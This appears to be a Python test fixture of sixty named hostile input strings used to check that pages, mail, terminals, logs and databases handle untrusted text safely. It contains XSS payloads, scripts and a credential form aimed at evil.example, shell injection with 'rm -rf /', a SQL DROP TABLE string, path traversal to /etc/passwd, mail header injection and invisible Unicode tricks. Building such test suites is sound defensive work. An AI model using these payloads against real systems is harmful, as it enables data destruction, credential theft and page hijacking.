"""Sixty strings that were made to break something: a page, a mail, a terminal, a log, a database.

Each has its name, which is the name of its test too. What a string would do if it ran is the same
everywhere: it sets `window.hostile`, so a browser can tell.
"""

from collections.abc import Callable, Mapping

RUNS = "window.hostile=1"

HOSTILE: Mapping[str, str] = {
    # elements
    "script": f"<script>{RUNS}</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script in odd case": f"<ScRiPt >{RUNS}</sCrIpT\t>",
    "image": f"<img src=x onerror={RUNS}>",
    "image without an end": f"<img src=x onerror={RUNS} ",
    "svg": f"<svg/onload={RUNS}><script>{RUNS}</script></svg>",
    "math": f"<math><mtext></p><style><a title='</style><img src onerror={RUNS}>'></math>",
    "details": f"<details open ontoggle={RUNS}>",
    "iframe": f"<iframe srcdoc='<script>{RUNS}</script>'></iframe>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "form": "<form action=//evil.example><input name=key><button>Sign in</button></form>",
    "object": "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    # out of where a text stands
    "out of an attribute": f'" onmouseover="{RUNS}" autofocus onfocus="{RUNS}',
    "out of a quoted attribute": f"' onmouseover='{RUNS}' style='position:fixed",
    "out of a bare attribute": f"x onmouseover={RUNS} `onclick={RUNS}`",
    "out of a title": f"</title><script>{RUNS}</script>",
    "out of a text area": f"</textarea><script>{RUNS}</script>",
    "out of everything": "</bdi></dd></dl></section></div></main></body></html><h1>Gone</h1>",
    "comment": "<!-- <script> --!> x <!",
    "section of text": f"]]><![CDATA[<script>{RUNS}</script>]]>",
    "processing": "<?php echo 1; ?><?xml-stylesheet href='//evil.example'?><!DOCTYPE x>",
    "entities": "&lt;script&gt;&#x3C;img&NewLine;src&colon;x&#0;&#xD800;&amp",
    # addresses
    "javascript address": f"javascript:{RUNS}//https://gerrit.wikimedia.org/r/1",
    "javascript address, hidden": f"jAvA\tscript\n:{RUNS}",
    "data address": f"data:text/html,<script>{RUNS}</script>",
    "address elsewhere": "//evil.example/%2e%2e/\\evil.example@gerrit.wikimedia.org/r/c/1",
    # templates and htmx
    "template": "{{ 7|add:7 }}{% load static %}{% include 'x' %}{# {{ request.user }} #}${7*7}",
    "htmx request": "<a hx-get=//evil.example hx-trigger=load hx-target=body>x</a>",
    "htmx event": f"\" hx-on::load=\"{RUNS}\" hx-on:click='{RUNS}' data-hx-vals='js:{RUNS}",
    "htmx out of band": "<div id=main hx-swap-oob=true data-hx-disable>Gone</div>",
    # characters that nobody sees
    "NUL": "before\x00after",
    "lone surrogates": "high \ud83d low \udc00 end",
    "C0 controls": "".join(map(chr, range(1, 32))) + "\x7f",
    "C1 controls": "next\x85line \x9b31m \x90 \x9d0;title\x9c",
    "escape sequences": "\x1b[31mred\x1b[2J\x1b]0;t\x07\x1b]8;;//evil.example\x07link\x1b]8;;\x07",
    "end of a paste": "ls\x1b[201~\nrm -rf /\r",
    "turned around": "evil\u202egpj.exe \u202dleft \u202aembedded \u200frl",
    "isolates": "\u2066one \u2067two \u2068three",
    "zero width": "a\u200bd\u2060a\ufeff sh\xady \u200d\u200d\u200d",
    "tag characters": "ada" + "".join(chr(0xE0000 + ord(sign)) for sign in "hidden"),
    "line separators": "one\u2028two\u2029three\x0bfour\x0cfive",
    "combining": "Z" + "\u0351\u0327" * 500,
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "four bytes": "\U0001d54a\U0001d54e\U0001d538\U0001d54b \U0010fffd \U00020000",
    "twins": "Ad\u0430 \u00e5 a\u030a \u212b \ufb01 \uff1cscript\uff1e \u2126",
    # size and lines
    "no space": "W" * 20_000,
    "no end of lines": "first" + "\n" * 2_000 + "last",
    "line ends": "one\r\ntwo\rthree\n\rfour",
    # other readers
    "shell": "$(touch /tmp/hostile) `id` ; rm -rf / & | > /etc/passwd",
    "option": "--upload-pack=touch -rf --",
    "SQL": "'; DROP TABLE scheduler_event; -- \" OR 1=1 /* \\' %s %(name)s",
    "coded": "%00 %0d%0aX-Injected:%201 %3Cscript%3E %u003c +",
    "path": "../../../../etc/passwd\\..\\..\\windows",
    "wikitext": "{{Special:Ping}} [[File:x.png|thumb]] '''x''' <nowiki> ~~~~ |}",
    "formula": '=HYPERLINK("//evil.example","x")',
    "mail header": "Subject\r\nBcc: everybody@evil.example\r\n\r\nbody",
    "mail end": "text\r\n.\r\nQUIT\r\n-- \nYou get this because",
    "log line": "ada\n2026-11-23 09:00:00 INFO scheduler: 'rel' signed in from 127.0.0.1",
    "JSON": '"}], "status": "MERGED", "__proto__": {"x": 1}, "\\u0000": "\\ud800',
}


def fitting(text: str, longest: int, cleaned: Callable[[str], str]) -> str:
    """Return as much of a text as a field takes: what is left of it once it is cleaned counts."""
    end = min(len(text), longest)
    while len(cleaned(text[:end])) > longest:
        end = end * longest // len(cleaned(text[:end]))
    return text[:end]
